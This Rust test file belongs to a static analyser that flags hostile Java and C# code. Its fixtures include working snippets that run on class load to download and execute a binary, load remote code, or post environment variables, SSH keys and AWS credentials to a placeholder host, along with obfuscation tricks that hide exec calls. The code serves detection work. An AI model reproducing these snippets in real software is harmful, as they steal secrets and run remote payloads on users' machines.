//! Java and C#: what is put together, what runs by itself, what harms, and what honest ones do.

use super::reached::{has, has_not};
use super::*;

const JAVA: Language = Language::Java;
const SHARP: Language = Language::CSharp;

fn java(body: &str) -> String {
    format!(
        "package a.b;\nimport java.io.*;\n@Deprecated\npublic final class Boat<T extends Object> extends Base implements Runnable {{\n{body}\n}}\n"
    )
}

fn sharp(body: &str) -> String {
    format!(
        "using System;\nusing System.Net.Http;\nnamespace A.B\n{{\n    [Serializable]\n    public static class Boat\n    {{\n{body}\n    }}\n}}\n"
    )
}

#[test]
fn text_of_java_is_put_together() {
    for case in [
        "Runtime.getRuntime().exec(\"ec\" + \"ho hi\");",
        "java.lang.Runtime.getRuntime().exec(new String[] { \"sh\", \"-c\", \"echo hi\" });",
        "new ProcessBuilder(\"sh\", \"-c\", new String(new byte[] {101, 99, 104, 111, 32, 104, 105})).start();",
        "new ProcessBuilder(List.of(\"sh\", \"-c\", new String(Base64.getDecoder().decode(\"ZWNobyBoaQ==\")))).start();",
        "StringBuilder sb = new StringBuilder(); for (char c : \"dbin!ih\".toCharArray()) { sb.append((char) (c ^ 1)); } Runtime.getRuntime().exec(sb.toString());",
        "int[] n = {101, 99, 104, 111, 32, 104, 105}; String s = \"\"; for (int i = 0; i < n.length; i++) s += (char) n[i]; Runtime.getRuntime().exec(s);",
        "byte[] k = \"k\".getBytes(); byte[] d = {14, 8, 3, 4, 75, 3, 2}; for (int i = 0; i < d.length; i++) { d[i] ^= k[i % k.length]; } Runtime.getRuntime().exec(new String(d));",
        "Runtime.getRuntime().exec(new StringBuilder(\"ih ohce\").reverse().toString());",
        "Runtime.getRuntime().exec(String.format(\"%s %s\", \"echo\", \"hi\"));",
        "Runtime.getRuntime().exec(String.join(\" \", \"echo\", \"hi\"));",
        "Class.forName(\"java.lang.Runtime\").getMethod(\"exec\", String.class).invoke(null, \"echo hi\");",
        "new Thread(() -> { Runtime.getRuntime().exec(LINE); }).start();",
        "new Thread(Boat::work).start();",
        "new Thread(new Runnable() { @Override public void run() { work(); } }).start();",
    ] {
        let code = java(&format!(
            "private static final String LINE = \"echo hi\";\nstatic void work() {{ Runtime.getRuntime().exec(LINE); }}\nstatic {{ {case} }}"
        ));
        let out = outcome(JAVA, &code);
        let found = out
            .events
            .iter()
            .any(|e| e.act == Act::Run && e.subject.as_deref() == Some("echo hi") && e.when == When::Load);
        assert!(found, "{:?}: {code}", out.events);
    }
}

#[test]
fn text_of_c_sharp_is_put_together() {
    for case in [
        "System.Diagnostics.Process.Start(\"echo\", \"hi\");",
        "Process.Start(new ProcessStartInfo { FileName = \"echo\", Arguments = $\"{\"h\"}i\" });",
        "var p = new Process(); p.StartInfo.FileName = \"echo\"; p.StartInfo.Arguments = \"hi\"; p.Start();",
        "Process.Start(Encoding.UTF8.GetString(Convert.FromBase64String(\"ZWNobyBoaQ==\")));",
        "var sb = new StringBuilder(); byte[] d = { 0x0E, 0x08, 0x03, 0x04, 0x4B, 0x03, 0x02 }; for (int i = 0; i < d.Length; i++) sb.Append((char)(d[i] ^ Key[i % Key.Length])); Process.Start(sb.ToString());",
        "foreach (var c in \"dbin!ih\") line += (char)(c ^ 1); Process.Start(line);",
        "Process.Start(string.Format(\"{0} {1}\", \"echo\", \"hi\"));",
        "Process.Start(@\"echo hi\");",
        "Task.Run(async () => { await Task.Delay(10); Process.Start(Make(true)); });",
        "try { if (1 > 2) return; else Process.Start(Make(true)); } catch (Exception e) when (e is IOException) { } finally { }",
    ] {
        let code = sharp(&format!(
            "        private const string Key = \"k\";\n        static string line = \"\";\n        static string Make(bool now) => now ? \"echo hi\" : null;\n        static Boat() {{ {case} }}"
        ));
        let out = outcome(SHARP, &code);
        let found = out
            .events
            .iter()
            .any(|e| e.act == Act::Run && e.subject.as_deref() == Some("echo hi") && e.when == When::Load);
        assert!(found, "{:?}: {code}", out.events);
    }
}

#[test]
fn what_runs_by_itself() {
    let of = |code: &str| event(&outcome(JAVA, code), Act::Run).when;
    let run = "Runtime.getRuntime().exec(\"x\");";
    assert_eq!(of(&java(&format!("public void go() {{ {run} }}"))), When::Called);
    assert_eq!(of(&java(&format!("public static void main(String[] args) {{ {run} }}"))), When::Main);
    assert_eq!(of(&java(&format!("@Bean public Runner bean() {{ return args -> {{ {run} }}; }}"))), When::Load);
    assert_eq!(
        of(&format!("@Mod(\"x\") public class M {{ public M() {{ go(); }} private void go() {{ {run} }} }}")),
        When::Load
    );
    assert_eq!(
        of(&format!("public class P extends JavaPlugin {{ @Override public void onEnable() {{ {run} }} }}")),
        When::Load
    );
    let of = |code: &str| event(&outcome(SHARP, code), Act::Run).when;
    let run = "Process.Start(\"x\");";
    assert_eq!(of(&sharp(&format!("public static void Go() {{ {run} }}"))), When::Called);
    assert_eq!(of(&sharp(&format!("[ModuleInitializer] internal static void Go() {{ {run} }}"))), When::Load);
    assert_eq!(
        of(&format!("using System.Diagnostics;\nvar x = 1;\nif (x > 0) {{ {run} }}\nclass A {{ }}\n")),
        When::Load
    );
}

#[test]
fn java_that_harms() {
    let drops = java(
        "static { new Thread(Boat::prepare).start(); }\nprivate static void prepare() {\n  try {\n    Path out = Paths.get(System.getProperty(\"java.io.tmpdir\"), \"upd\");\n\
         Files.write(out, read(\"http://h.invalid/a\"));\n    Runtime.getRuntime().exec(new String[]{\"chmod\", \"+x\", out.toString()}).waitFor();\n\
         new ProcessBuilder(out.toString()).start();\n  } catch (Throwable ignored) { }\n}\n\
         private static byte[] read(String u) throws Exception { try (InputStream i = new URL(u).openStream()) { return i.readAllBytes(); } }",
    );
    has(JAVA, &drops, "flow-download-run");
    let loads = java(
        "static { new URLClassLoader(new URL[] { new URL(\"http\", \"h.invalid\", 8080, \"/a.jar\") }).loadClass(\"U\").getMethod(\"run\").invoke(null); }",
    );
    has(JAVA, &loads, "flow-remote-code");
    let env = java(
        "static {\n HttpURLConnection c = (HttpURLConnection) new URL(\"https://h.invalid/a\").openConnection();\n c.setRequestMethod(\"POST\");\n\
         try (OutputStream os = c.getOutputStream()) { os.write(System.getenv().toString().getBytes(StandardCharsets.UTF_8)); }\n}",
    );
    has(JAVA, &env, "flow-environment-sent");
    let keys = java(
        "static {\n String k = Files.readString(Paths.get(System.getProperty(\"user.home\"), \".ssh\", \"id_rsa\"));\n\
         HttpRequest q = HttpRequest.newBuilder().uri(URI.create(\"https://h.invalid/a\")).POST(HttpRequest.BodyPublishers.ofString(k)).build();\n\
         HttpClient.newHttpClient().send(q, HttpResponse.BodyHandlers.discarding());\n}",
    );
    has(JAVA, &keys, "flow-credentials-sent");
}

#[test]
fn c_sharp_that_harms() {
    let drops = sharp(
        "static Boat() { var p = Path.Combine(Path.GetTempPath(), \"u.exe\"); new WebClient().DownloadFile(\"http://h.invalid/u\", p); Process.Start(p); }",
    );
    has(SHARP, &drops, "flow-download-run");
    let loads = sharp(
        "static Boat() { using (var c = new HttpClient()) { var b = c.GetByteArrayAsync(\"https://h.invalid/a\").Result; Assembly.Load(b).EntryPoint.Invoke(null, null); } }",
    );
    has(SHARP, &loads, "flow-remote-code");
    let keys = sharp(
        "static async Task Tell() { var t = File.ReadAllText(Path.Combine(Environment.GetFolderPath(Environment.SpecialFolder.UserProfile), \".aws/credentials\"));\n\
         using var c = new HttpClient(); await c.PostAsync(\"https://h.invalid/a\", new StringContent(t)); }\nstatic Boat() { _ = Tell(); }",
    );
    has(SHARP, &keys, "flow-credentials-sent");
}

#[test]
fn honest_ones_of_both() {
    let tool = java(
        "public static void main(String[] args) throws Exception {\n  Process p = new ProcessBuilder(\"git\", \"status\").inheritIO().start();\n  p.waitFor();\n\
         String body = Files.readString(Path.of(args[0]));\n  HttpRequest r = HttpRequest.newBuilder(URI.create(\"https://api.example.invalid/v1\")).header(\"Authorization\", \"Bearer \" + System.getenv(\"EXAMPLE_TOKEN\")).POST(BodyPublishers.ofString(body)).build();\n\
         System.out.println(HttpClient.newHttpClient().send(r, BodyHandlers.ofString()).body());\n}",
    );
    let loader = java(
        "static void load(File dir) { for (File j : dir.listFiles()) { new URLClassLoader(new URL[] { j.toURI().toURL() }).loadClass(\"P\"); } }",
    );
    for code in [&tool, &loader] {
        assert!(rules(JAVA, code).is_empty(), "{:?}: {code}", rules(JAVA, code));
    }
    let client = sharp(
        "private readonly HttpClient _c;\npublic async Task<string> Get(string id, CancellationToken t = default) { using var r = await _c.GetAsync($\"https://api.example.invalid/{id}\", t); return await r.Content.ReadAsStringAsync(); }\n\
         public void Open(string file) { Process.Start(new ProcessStartInfo(file) { UseShellExecute = true }); }\npublic Assembly Add(string name) => Assembly.Load(new AssemblyName(name));",
    );
    has_not(SHARP, &client, "flow-remote-code");
    assert!(rules(SHARP, &client).is_empty(), "{:?}", rules(SHARP, &client));
}

#[test]
fn secrets_that_callers_hand_over_are_told_to_nobody() {
    let client = |tells: &str| {
        java(&format!(
            "private String clientSecret;\npublic Boat clientSecret(String s) {{ clientSecret = s; return this; }}\npublic String url(String base) {{ {tells} return base + clientSecret.hashCode(); }}"
        ))
    };
    let told = client(
        "try { HttpURLConnection c = (HttpURLConnection) new URL(\"https://h.invalid/a\").openConnection(); c.setDoOutput(true); c.getOutputStream().write(clientSecret.getBytes()); c.getResponseCode(); } catch (Exception e) { }",
    );
    has(JAVA, &told, "flow-secret-told");
    has_not(JAVA, &client(""), "flow-secret-told");
    has_not(JAVA, &told.replace("write(clientSecret.getBytes())", "write(base.getBytes())"), "flow-secret-told");
}
